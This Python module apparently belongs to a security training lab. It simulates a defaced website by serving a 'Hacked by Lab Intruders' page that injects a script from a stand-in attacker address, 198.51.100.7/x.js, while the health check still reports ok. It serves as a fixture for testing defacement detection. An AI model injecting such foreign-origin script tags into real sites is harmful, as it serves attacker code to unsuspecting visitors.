"""What a defaced lab site shows: an attacker's boast and a script from a foreign origin.

Only the pages change (``/`` and ``/index.html``); the health endpoint still
answers ``ok``, as it does on a real defaced site, so that only a content check
sees the attack.
"""

from __future__ import annotations

from html import escape
from http import HTTPStatus

from garrison.demo.lab.http_wire import Response

DEFACED_PATHS = ("/", "/index.html")
ATTACKER_ORIGIN = "http://198.51.100.7"
"""A documentation address (TEST-NET-2) standing for the attacker's server."""
ATTACKER_SCRIPT = f"{ATTACKER_ORIGIN}/x.js"
BOAST = "Hacked by Lab Intruders"


def render_defaced(title: str) -> Response:
    """The page served instead of a site's own while it is defaced."""
    html = f"""<!DOCTYPE html>
<html>
  <head>
    <meta charset="utf-8">
    <title>{escape(BOAST)}</title>
    <script src="{ATTACKER_SCRIPT}"></script>
  </head>
  <body style="background: #000; color: #0f0; text-align: center">
    <h1>{escape(BOAST)}</h1>
    <p>{escape(title)} was owned. Your security is an illusion.</p>
    <p>Greetz to all crews.</p>
  </body>
</html>
"""
    return Response(
        status=HTTPStatus.OK,
        content_type="text/html; charset=utf-8",
        body=html.encode("utf-8"),
    )
